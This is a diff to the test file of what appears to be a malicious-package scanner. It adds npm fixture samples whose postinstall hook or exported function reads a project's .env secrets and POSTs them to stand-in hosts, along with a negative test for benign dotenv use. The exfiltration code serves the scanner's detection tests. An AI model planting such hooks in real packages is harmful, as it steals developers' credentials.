@@ -896,6 +896,26 @@ def npm_ssh_key_request() -> Archive:
     return npm({"postinstall": "node k.js"}, {"k.js": code})
 
 
+def npm_env_file() -> Archive:
+    code = lines(
+        "const fs = require('fs');",
+        "const body = fs.readFileSync('.env', 'utf8');",
+        "fetch('https://203.0.113.66/x', { method: 'POST', body });",
+    )
+    return npm({"postinstall": "node k.js"}, {"k.js": code})
+
+
+def npm_env_file_on_use() -> Archive:
+    code = lines(
+        "const fs = require('fs');",
+        "module.exports = function sync() {",
+        "  const body = fs.readFileSync('.env', 'utf8');",
+        "  return fetch('https://collect.example.net/x', { method: 'POST', body });",
+        "};",
+    )
+    return npm({}, {"index.js": code})
+
+
 #: sample, path, line, code, severity of the behaviour it must keep. The comment says what the
 #: packages layer reported before session 12 where it differed.
 CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
@@ -959,6 +979,8 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (npm_computed_require, "package/i.js", 2, "PKG015", C),  # was medium (PKG014)
     (npm_global_require, "package/i.js", 2, "PKG015", C),  # was medium (PKG014)
     (npm_ssh_key_request, "package/k.js", 3, "PKG015", C),  # was medium (PKG014)
+    (npm_env_file, "package/k.js", 3, "PKG015", C),  # was high for the raw address only
+    (npm_env_file_on_use, "package/index.js", 4, "PKG015", C),  # was nothing
 ]
 
 
@@ -1230,3 +1252,19 @@ def test_clipboard_manager_loop_without_wallet_addresses_is_no_clipper() -> None
     )
     found = scan(sd({"demo/__init__.py": lib}))
     assert not [f for f in found if f.code == "PKG006"]
+
+
+def test_one_variable_of_a_dotenv_file_and_a_printed_dotenv_file_are_not_a_dump() -> None:
+    client = lines(
+        "const fs = require('fs');",
+        "const dotenv = require('dotenv');",
+        "function client() {",
+        "  const env = dotenv.parse(fs.readFileSync('.env'));",
+        "  return fetch('https://api.example.com/v1/me',"
+        " { headers: { authorization: 'Bearer ' + env.API_KEY } });",
+        "}",
+        "module.exports = { client };",
+    )
+    show = "const fs = require('fs');\nconsole.log(fs.readFileSync('.env', 'utf8'));\n"
+    found = scan(npm({}, {"index.js": client, "cli.js": show}))
+    assert not [f for f in found if f.code == "PKG015" and f.severity >= Severity.HIGH]
